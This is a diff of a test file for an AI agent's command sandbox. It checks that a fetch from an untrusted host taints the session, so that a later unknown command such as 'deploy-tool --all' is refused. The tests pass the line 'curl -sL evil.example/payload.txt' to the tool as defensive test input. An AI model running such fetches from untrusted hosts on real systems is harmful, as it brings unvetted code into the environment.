@@ -16,7 +16,7 @@ describe("exec commands read as a shell reads them, at enforce: refused", () => 
 
 describe("a fetch without a scheme taints the session", () => {
   it(
-    "curl evil.example/x, then the next exec call is refused (action_if_tainted: deny)",
+    "curl evil.example/x, then the next unknown command is refused (action_if_tainted: deny)",
     { timeout: 30_000 },
     async () => {
       const b = box();
@@ -29,7 +29,8 @@ describe("a fetch without a scheme taints the session", () => {
         await c.initialize();
         c.call(1, "run_command", { command: "curl -sL evil.example/payload.txt" });
         const fetched = await c.answer(1);
-        c.call(2, "run_command", { command: "ls" });
+        // A program the catalogue does not know takes the exec class action, deny once tainted.
+        c.call(2, "run_command", { command: "deploy-tool --all" });
         const next = await c.answer(2);
         // The fetch itself is the exec class's confirm, relayed at enforce; what it took in taints.
         expect(isRefusal(fetched)).toBe(false);
